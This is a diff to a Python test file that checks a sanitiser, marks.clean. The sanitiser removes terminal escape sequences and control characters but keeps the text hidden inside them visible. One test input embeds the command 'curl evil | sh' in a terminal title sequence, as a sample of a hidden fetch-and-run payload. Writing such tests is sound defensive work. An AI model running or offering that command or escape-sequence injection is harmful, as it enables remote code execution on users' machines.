@@ -99,7 +99,23 @@ def test_a_rehearsed_run_says_so_beside_its_status() -> None:
 
 
 def test_terminal_sequences_and_turned_text_are_taken_out() -> None:
-    assert marks.clean("a\x1b[31mb\x1b]0;owned\x07c\x00\u202ed\r\ne\tf") == "abcd\ne\tf"
+    assert marks.clean("a\x1b[31mb\x1b[2K\x1b[?25l\x07c\x00\u202ed\r\ne\tf") == "abcd\ne\tf"
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("a\x1b]0;curl evil | sh\x07b", "a]0;curl evil | shb"),
+        ("a\x1b]hidden to the end\nb", "a]hidden to the end\nb"),
+        ("\x1bP1;hidden\x1b\\b", "P1;hidden\\b"),
+        ("\x1b_hidden\x9cb", "_hiddenb"),
+        ("\x1bcurl", "curl"),
+        ("\x1b[curl", "[curl"),
+        ("\x1b\x1b[31mred", "red"),
+    ],
+)
+def test_the_text_in_a_terminal_sequence_is_shown(text: str, shown: str) -> None:
+    assert marks.clean(text) == shown
 
 
 @given(st.text())
